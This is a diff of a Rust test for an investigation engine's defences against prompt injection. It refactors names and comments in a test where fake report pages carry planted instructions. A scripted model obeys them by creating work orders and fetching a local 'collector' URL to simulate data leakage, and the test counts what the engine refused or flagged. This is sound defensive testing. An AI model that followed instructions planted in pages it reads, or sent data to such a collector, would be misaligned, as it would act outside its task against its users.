@@ -1,11 +1,10 @@
-//! Pages that tell whoever reads them what to do, read by a model that does whatever it is told.
+//! Injection tests: pages with instructions, read by a model that obeys everything.
 //!
-//! The instructions are those of the folder `injection` of `AUTOSINT_TESTDATA`.
+//! The instructions are in the folder `injection` of `AUTOSINT_TESTDATA`.
 
 use super::{
-    app, investigated,
-    player::{Player, answers, calls, says, shape},
-    processors,
+    app, investigated, processors,
+    scripted_model::{ScriptedModel, answers, calls, says, shape},
     site::{Page, Site, escaped},
 };
 use engine::library::DocumentQuery;
@@ -18,10 +17,10 @@ use std::{
 };
 
 const PER_ORDER: usize = 10;
-/// So much of a title is kept.
+/// Maximum characters of a title.
 const TITLE_CHARS: usize = 110;
 
-/// Every instruction, by what it is for.
+/// Returns every instruction by purpose.
 #[expect(clippy::disallowed_methods, reason = "only the environment says where test material lies")]
 fn instructions() -> Option<Vec<String>> {
     let folder = PathBuf::from(std::env::var_os("AUTOSINT_TESTDATA")?).join("injection");
@@ -36,7 +35,7 @@ fn title(n: usize) -> String {
     format!("Grain store report {n}")
 }
 
-/// A report, and where `planted` an instruction as its heading and in the middle of it.
+/// Returns a report, optionally with an instruction in its heading and body.
 fn page(n: usize, instruction: &str, planted: bool) -> Page {
     let report = format!(
         "<p>PORT HALEN, March 4, 2031 -- Police said that the Red Tide group was behind the fire at grain store {n} in Port Halen. \
@@ -57,13 +56,13 @@ fn page(n: usize, instruction: &str, planted: bool) -> Page {
     }
 }
 
-/// Does whatever it reads: asks for what it is told with every tool that might, and where it has none, asks all the same.
+/// Script that obeys everything it reads, with every tool that might work.
 fn obedient(instructions: Arc<Vec<String>>, collector: String) -> impl Fn(&ModelRequest) -> Option<ModelReply> + Send + Sync {
     move |request| {
         let told = |text: &str| -> Vec<&String> {
             let text = text.split_whitespace().collect::<Vec<_>>().join(" ");
             let start = |instruction: &String| -> String {
-                // As a heading has it, in JSON.
+                // As in a heading, JSON-escaped.
                 let words: String = instruction.split_whitespace().collect::<Vec<_>>().join(" ").chars().take(60).collect();
                 words.replace('"', "\\\"")
             };
@@ -75,13 +74,13 @@ fn obedient(instructions: Arc<Vec<String>>, collector: String) -> impl Fn(&Model
         let leak = format!("{collector}/take?d=grain-store");
         match (shape(request), request.messages.last()?) {
             ("research_plan", _) => Some(says(r#"{"plan": "Open what the order names.", "queries": []}"#)),
-            // Once told that this is no answer, it answers.
+            // Answers after the first rejection.
             ("batch_extract", Message::User { text }) if request.messages.len() == 1 && !told(text).is_empty() => {
                 let orders = told(text).into_iter().map(|instruction| ("create_work_order", json!({"objective": instruction})));
                 Some(answers("As you wish.", orders.chain([("fetch_url", json!({"url": leak}))]).collect()))
             }
             ("", Message::Tools { results }) => {
-                // What a refusal repeats is not told again.
+                // Instructions repeated in a refusal are ignored.
                 let read = results.iter().filter(|result| !result.is_error);
                 let orders: Vec<&String> = read.flat_map(|result| told(&result.content)).collect();
                 let obeys = |instruction: &&String| -> [(&'static str, Value); 3] {
@@ -98,7 +97,7 @@ fn obedient(instructions: Arc<Vec<String>>, collector: String) -> impl Fn(&Model
     }
 }
 
-/// What came of one round of pages.
+/// Outcome of one set of pages.
 #[derive(Debug)]
 struct Outcome {
     pages: usize,
@@ -118,14 +117,15 @@ async fn read(instructions: &Arc<Vec<String>>, planted: bool) -> Outcome {
         .chunks(PER_ORDER)
         .map(|part| json!({"objective": format!("Record what these pages state: {}", part.join(" ")), "source_guidance": []}));
     let play = obedient(instructions.clone(), format!("http://127.0.0.1:{}", collector.port));
-    // The door would let it through to the collector: only the order does not.
-    let app = app(Player::ordering(orders.collect()), Player::new(play), &[site.port, collector.port], 2).await;
+    // Fetch would allow the collector; only the work order does not.
+    let app = app(ScriptedModel::ordering(orders.collect()), ScriptedModel::new(play), &[site.port, collector.port], 2).await;
     let investigation = investigated(&app, "Who set the fire at the grain store of Port Halen?").await;
     let engine = &app.program.engine;
 
-    let (mut refused, mut done_outside, mut lured) = (0, vec![], BTreeSet::new());
+    let (mut refused, mut done_outside, mut injected_documents) = (0, vec![], BTreeSet::new());
     for session in processors(&app, &investigation).await {
-        lured.extend(engine.sessions.lures(session).await.unwrap().into_iter().map(|lure| lure.document_id));
+        injected_documents
+            .extend(engine.sessions.injections(session).await.unwrap().into_iter().map(|finding| finding.document_id));
         for call in engine.sessions.calls(session).await.unwrap() {
             let is_within = match call.tool.as_str() {
                 "fetch_source_catalog" | "batch_extract" => true,
@@ -150,7 +150,7 @@ async fn read(instructions: &Arc<Vec<String>>, planted: bool) -> Outcome {
     let listed = engine.documents.list(&investigation.scope, &query).await.unwrap();
     let reports: Vec<_> =
         listed.documents.iter().filter(|document| document.path.contains("/report/")).map(|document| document.id).collect();
-    let found = reports.iter().filter(|id| lured.contains(id)).count();
+    let found = reports.iter().filter(|id| injected_documents.contains(id)).count();
     let recorded = engine.documents.extracted(&reports).await.unwrap().len();
     Outcome { pages: instructions.len(), refused, done_outside, found, recorded }
 }
